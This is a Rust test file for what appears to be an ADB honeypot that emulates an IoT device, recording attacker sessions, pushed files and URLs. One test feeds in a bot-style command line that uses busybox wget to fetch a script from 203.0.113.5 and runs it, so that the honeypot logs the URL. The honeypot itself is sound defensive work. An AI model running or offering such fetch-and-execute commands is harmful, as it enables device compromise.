use super::Talk;
use super::packet::{Command, Message, read, write};
use crate::amplification::Persona;
use crate::iot::dialogue::{Ends, Finished};
use crate::iot::house::Talking;
use crate::iot::{Device, Limits};
use noroshi_model::Nanos;

const NOW: Nanos = Nanos(1_767_225_600_000_000_000);

fn talk(seed: u64) -> Box<Talk> {
    let address: noroshi_model::Addr = "192.0.2.7".parse().unwrap();
    let ends = Ends { sensor: "s".into(), src: address, sport: 4_000, dst: address, dport: 5_555, protocol: "adb" };
    let device = Device::shipped("recorder").unwrap().dress(&Persona::new(seed));
    Box::new(Talk::new(device, Limits::default(), &ends, "1".into(), NOW))
}

fn messages(bytes: &[u8]) -> Vec<Message> {
    let (mut at, mut found) = (0, Vec::new());
    while let Some((message, length)) = read(&bytes[at..]).unwrap() {
        found.push(message);
        at += length;
        if at == bytes.len() {
            break;
        }
    }
    found
}

fn send(talk: &mut Talk, command: Command, first: u32, second: u32, payload: &[u8]) -> Vec<Message> {
    let mut bytes = Vec::new();
    write(&mut bytes, command, first, second, payload);
    let said = talk.feed(&bytes, NOW).bytes;
    if said.is_empty() { Vec::new() } else { messages(&said) }
}

fn finish(talk: Box<Talk>) -> Finished {
    talk.finish(NOW)
}

#[test]
fn a_bot_runs_its_line_and_leaves_its_place() {
    let mut talk = talk(1);
    let banner = send(&mut talk, Command::Connect, 0x0100_0000, 4_096, b"host::\0");
    assert!(banner[0].command == Command::Connect && banner[0].payload.starts_with(b"device::ro.product.name="));
    let line = b"shell:cd /data/local/tmp/; busybox wget http://203.0.113.5/w.sh; sh w.sh; uname -m\0";
    let said = send(&mut talk, Command::Open, 7, 0, line);
    let commands: Vec<Command> = said.iter().map(|message| message.command).collect();
    assert_eq!(commands, [Command::Okay, Command::Write]);
    assert!(said.iter().all(|message| message.second == 7));
    // Closed behind the last message, once that was taken.
    let end = send(&mut talk, Command::Okay, 7, said[1].first, b"");
    assert_eq!(end[0].command, Command::Close);
    let session = finish(talk).session;
    assert_eq!(session.urls, ["http://203.0.113.5/w.sh"]);
    assert_eq!((session.commands.len(), session.client.as_deref()), (1, Some("host::")));
}

#[test]
fn a_pushed_file_is_kept_by_its_hash() {
    let mut talk = talk(1);
    send(&mut talk, Command::Connect, 0x0100_0000, 4_096, b"host::\0");
    let ours = send(&mut talk, Command::Open, 9, 0, b"sync:\0")[0].first;
    let mut bytes = Vec::new();
    for (word, body) in [(b"SEND", &b"/data/local/tmp/x,33261"[..]), (b"DATA", b"\x7fELF not run")] {
        bytes.extend(word);
        bytes.extend((body.len() as u32).to_le_bytes());
        bytes.extend(body);
    }
    bytes.extend(b"DONE\x01\x02\x03\x04");
    // In two pieces, as it may come.
    let (one, two) = bytes.split_at(20);
    send(&mut talk, Command::Write, 9, ours, one);
    let said = send(&mut talk, Command::Write, 9, ours, two);
    assert!(said.iter().any(|message| message.payload == b"OKAY\0\0\0\0"), "{said:?}");
    let finished = finish(talk);
    assert_eq!(finished.samples.len(), 1);
    assert_eq!((&*finished.samples[0].path, finished.session.hashes.len()), ("/data/local/tmp/x", 1));
}

#[test]
fn a_terminal_echoes_and_prompts() {
    let mut talk = talk(2);
    send(&mut talk, Command::Connect, 0x0100_0000, 4_096, b"host::\0");
    let said = send(&mut talk, Command::Open, 3, 0, b"shell:\0");
    let (ours, prompt) = (said[0].first, String::from_utf8_lossy(&said[1].payload).into_owned());
    assert!(prompt.starts_with("root@") && prompt.ends_with(":/ # "), "{prompt}");
    send(&mut talk, Command::Okay, 3, ours, b"");
    let said = send(&mut talk, Command::Write, 3, ours, b"echo hi\n");
    let text = String::from_utf8_lossy(&said.last().unwrap().payload).into_owned();
    assert_eq!(text, format!("echo hi\r\nhi\r\n{prompt}"));
    send(&mut talk, Command::Okay, 3, ours, b"");
    let end = send(&mut talk, Command::Write, 3, ours, b"exit\n");
    assert!(end.iter().any(|message| message.command == Command::Write), "{end:?}");
}

#[test]
fn what_is_no_adb_ends_at_once() {
    assert!(talk(1).feed(b"GET / HTTP/1.1\r\n\r\n", NOW).close);
    assert!(!talk(1).feed(b"CN", NOW).close);
    let mut bytes = Vec::new();
    write(&mut bytes, Command::Connect, 0, 0, b"");
    bytes[12..16].copy_from_slice(&u32::MAX.to_le_bytes());
    assert!(talk(1).feed(&bytes, NOW).close, "a length that nobody waits for");
}

#[test]
fn a_file_asked_for_again_and_again_waits_in_no_memory() {
    let mut talk = talk(1);
    send(&mut talk, Command::Connect, 0x0100_0000, 4_096, b"host::\0");
    let ours = send(&mut talk, Command::Open, 7, 0, b"sync:\0")[0].first;
    let word = |word: &[u8; 4], body: &[u8]| [&word[..], &(body.len() as u32).to_le_bytes(), body].concat();
    send(&mut talk, Command::Write, 7, ours, &word(b"SEND", b"/data/x,33188"));
    for _ in 0..16 {
        send(&mut talk, Command::Write, 7, ours, &word(b"DATA", &[7; 60_000]));
    }
    send(&mut talk, Command::Write, 7, ours, &word(b"DONE", &[]));
    // Sixteen thousand times a megabyte, asked for in one message.
    let mut bytes = Vec::new();
    write(&mut bytes, Command::Write, 7, ours, &word(b"RECV", b"/data/x").repeat(16_000));
    let reply = talk.feed(&bytes, NOW);
    let waiting: usize = talk.streams.values().flat_map(|stream| &stream.waiting).map(Vec::len).sum();
    assert!(reply.close, "the dialogue goes on");
    assert!(waiting + reply.bytes.len() < 2 * Limits::default().bytes_out as usize, "{waiting} bytes wait");
    assert!(finish(talk).session.truncated);
}

#[test]
fn a_path_longer_than_the_protocol_has_ends_the_transfer() {
    let mut talk = talk(1);
    send(&mut talk, Command::Connect, 0x0100_0000, 4_096, b"host::\0");
    let ours = send(&mut talk, Command::Open, 7, 0, b"sync:\0")[0].first;
    let path = "/a".repeat(30_000);
    let request = [b"SEND", &(path.len() as u32).to_le_bytes()[..], path.as_bytes()].concat();
    let said = send(&mut talk, Command::Write, 7, ours, &request);
    assert_eq!(said.last().unwrap().command, Command::Close);
    assert_eq!(finish(talk).samples.len(), 0);
}
